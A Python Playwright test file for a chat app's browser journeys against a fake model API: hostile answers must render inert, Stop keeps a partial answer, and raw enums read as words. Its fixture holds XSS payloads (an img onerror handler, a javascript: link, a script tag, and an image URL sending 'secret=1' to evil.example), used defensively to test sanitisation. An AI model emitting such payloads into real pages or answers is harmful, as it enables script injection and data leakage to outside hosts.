"""Journeys against the scripted fake Messages API: a hostile answer renders inert, and Stop keeps a partial answer."""

from __future__ import annotations

import pytest
from playwright.sync_api import expect

from tests.browser.harness import Journey
from tests.fakes.anthropic_server import FakeAnthropic, Script

pytestmark = pytest.mark.browser

HOSTILE_ANSWER = """Here is what I found.

<img src=x onerror="window.__pwned=1">

[click](javascript:window.__pwned=2)

![tracker](http://example.com/t.png)

![x](https://evil.example/p.png?secret=1)

<script>window.__pwned=3</script>

End of answer."""

SLOW_TEXT = "Thinking about this carefully. "


def _assert_inert(j: Journey) -> None:
    page = j.page
    answer = j.last_answer()
    expect(answer).to_contain_text("End of answer.")
    assert page.evaluate("() => typeof window.__pwned") == "undefined"
    expect(answer.locator("img")).to_have_count(0)
    expect(answer.locator("script")).to_have_count(0)
    assert page.evaluate("() => document.querySelectorAll('img[src=\"x\"], img[src*=\"example.com\"]').length") == 0
    # The javascript: link keeps its text but is no link at all.
    click = answer.get_by_text("click", exact=True)
    expect(click).to_have_count(1)
    assert click.evaluate("el => el.closest('a') === null && !el.hasAttribute('href')")
    assert page.evaluate("() => document.querySelectorAll('a[href^=\"javascript:\" i]').length") == 0
    click.click()
    # An image is shown as inert text naming its domain: never loaded, never a link carrying its URL.
    expect(answer.get_by_text("[image: tracker (example.com)]")).to_be_visible()
    expect(answer.get_by_text("[image: x (evil.example)]")).to_be_visible()
    expect(answer.locator("a[href*='example']")).to_have_count(0)
    assert "secret=1" not in answer.inner_html()
    assert page.evaluate("() => typeof window.__pwned") == "undefined"
    assert not [u for u in j.requests if "example.com" in u or "evil.example" in u]
    assert not j.foreign_requests


def _assert_security_headers(j: Journey) -> None:
    for path in ("/tablizer", "/api/health"):
        headers = j.page.request.get(f"{j.app.url}{path}").headers
        policy = headers.get("content-security-policy", "")
        assert "default-src 'self'" in policy and "img-src 'self' data:" in policy, (path, policy)
        assert headers.get("x-content-type-options") == "nosniff", path


def test_hostile_answer_renders_inert(scripted_journey: Journey, fake_llm: FakeAnthropic) -> None:
    """Under the app's CSP (any violation would be a console error, failing the journey)."""
    j, page = scripted_journey, scripted_journey.page
    _assert_security_headers(j)
    fake_llm.script(Script.text(HOSTILE_ANSWER))
    j.sign_in("/tablizer")
    j.open_chat()
    page.get_by_test_id("chat-input").fill("Summarise these for me")
    page.get_by_test_id("chat-input").press("Enter")
    expect(j.last_answer()).to_have_class("message message-assistant status-complete")
    _assert_inert(j)
    j.shot("hostile-answer")

    # The stored answer renders just as inertly when the conversation is reopened.
    page.reload()
    j.tray_reopened()
    _assert_inert(j)
    j.shot("hostile-answer-after-reload")
    assert len(fake_llm.requests) == 1
    j.assert_clean()


def test_stop_keeps_the_partial_answer_and_stores_it_interrupted(scripted_journey: Journey,
                                                                   fake_llm: FakeAnthropic) -> None:
    j, page = scripted_journey, scripted_journey.page
    fake_llm.script(Script.slow(SLOW_TEXT))
    j.sign_in("/trialscout")
    j.open_chat()
    page.get_by_test_id("chat-input").fill("Take your time with this one")
    page.get_by_test_id("chat-send").click()

    answer = j.last_answer()
    markdown = answer.locator(".markdown")
    page.wait_for_function(
        "(needle) => { const a = [...document.querySelectorAll('[data-testid=\"message-assistant\"] .markdown')].pop();"
        " return a && a.textContent.split(needle).length > 3; }",
        arg=SLOW_TEXT.strip(),
    )
    expect(page.get_by_test_id("chat-status")).to_be_visible()
    j.shot("streaming")
    page.get_by_test_id("chat-stop").click()

    expect(answer.get_by_test_id("message-interrupted")).to_be_visible()
    expect(page.get_by_test_id("chat-stop")).to_have_count(0)
    expect(page.get_by_test_id("chat-send")).to_be_visible()
    partial = markdown.inner_text().strip()
    assert partial.startswith(SLOW_TEXT.strip())

    # The server ends the turn as interrupted and lets go of the model's stream.
    conversation_id = j.remembered_conversation("trialscout")
    page.wait_for_function(
        """async (id) => {
          const r = await fetch(`/api/conversations/${id}`);
          const c = await r.json();
          return c.messages.some((m) => m.role === "assistant" && m.status === "interrupted");
        }""",
        arg=conversation_id,
        polling=100,
    )
    assert fake_llm.disconnected.wait(timeout=10), "the app kept reading the model's stream after Stop"
    expect(markdown).to_have_text(partial)  # nothing more arrived after Stop
    j.shot("stopped")

    stored = j.api_get(f"/api/conversations/{conversation_id}")
    assistant = [m for m in stored["messages"] if m["role"] == "assistant"]
    assert [m["status"] for m in assistant] == ["interrupted"]
    assert assistant[0]["content"].strip().startswith(partial)

    page.reload()
    j.tray_reopened()
    reloaded = j.last_answer()
    expect(reloaded.get_by_test_id("message-interrupted")).to_be_visible()
    expect(reloaded.locator(".markdown")).to_contain_text(partial)
    j.shot("after-reload")
    j.assert_clean()


def test_markup_only_answers_and_raw_enums_read_as_words(scripted_journey: Journey, fake_llm: FakeAnthropic) -> None:
    """An answer that is only HTML says "(HTML omitted)" instead of an empty bubble; a card's explanation
    shows CT.gov enums as the form does ("Phase 2", "Recruiting"), never PHASE2 or RECRUITING."""
    j, page = scripted_journey, scripted_journey.page
    page.set_viewport_size({"width": 1440, "height": 900})
    fake_llm.script(Script.text("<div><b>Only markup</b></div>"), Script.text(
        'Here you go.\nTRIAL_SEARCH: {"condition": "melanoma", "phase": ["PHASE2"], "status": ["RECRUITING"], '
        '"explanation": "Filters: PHASE2, RECRUITING; also EARLY_PHASE1."}'))
    j.sign_in("/trialscout")
    j.open_chat()
    page.get_by_test_id("chat-input").fill("Show me markup")
    page.get_by_test_id("chat-input").press("Enter")
    expect(j.last_answer().get_by_test_id("html-omitted")).to_have_text("(HTML omitted)")
    expect(j.last_answer()).not_to_contain_text("Only markup")
    page.get_by_test_id("chat-input").fill("A search please")
    page.get_by_test_id("chat-input").press("Enter")
    card = page.get_by_test_id("card-trial_search_suggestion")
    expect(card.locator(".card-explanation")).to_have_text("Filters: Phase 2, Recruiting; also Early Phase 1.")
    expect(card).not_to_contain_text("PHASE2")
    j.shot("labels")
    j.assert_clean()
